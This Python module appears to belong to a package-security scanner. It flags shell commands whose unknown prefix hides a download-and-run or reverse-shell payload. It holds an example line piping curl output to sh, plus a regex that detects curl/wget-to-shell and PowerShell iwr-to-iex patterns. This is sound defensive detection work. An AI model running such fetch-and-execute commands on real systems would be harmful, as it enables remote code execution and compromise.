"""A command padded at its start is read by what follows when that is a payload on its own
(issue 16; ADR 0171).

ADR 0154 keeps the known start of a command that stops folding (``CURL + x``); ADR 0156
reads the known parts of code whose start does not fold. A command whose start does not
fold (``os.system(x + 'curl -s H/x | sh')``, ``x`` an empty string the reader cannot fold)
had no text at all: a run of an unknown command, allowed even in ``setup.py``. Its known
parts (``Val.code``) are its text here when, on their own, they are a download piped to a
shell or a reverse shell: what no prefix turns into a harmless command. Any other padded
command stays unknown (``exe + ' --version'`` names no program). Pure.
"""

from __future__ import annotations

import re

from airlock.imports.packages.flowtypes import Val
from airlock.imports.packages.lazyre import LazyPattern
from airlock.imports.packages.revshell import reverse_shell

# A download handed to a shell or run (curl/wget piped to sh, PowerShell's iwr piped to iex).
PIPED_DOWNLOAD = LazyPattern(
    r"\b(?:curl|wget)\b[^;\n]{0,300}\|\s*(?:sudo\s+)?(?:\S*/)?(?:ba|z|da)?sh\b|"
    r"\b(?:iwr|invoke-webrequest|irm|invoke-restmethod)\b[^;\n]{0,300}\|\s*(?:iex|invoke-expression)\b",
    re.IGNORECASE,
)


def tail(value: Val) -> str:
    """The known text of a command padded at its start, when it is a payload by itself."""
    if value.const is not None or value.head or not value.code:
        return ""
    code = value.code
    return code if PIPED_DOWNLOAD.search(code) or reverse_shell(code) else ""
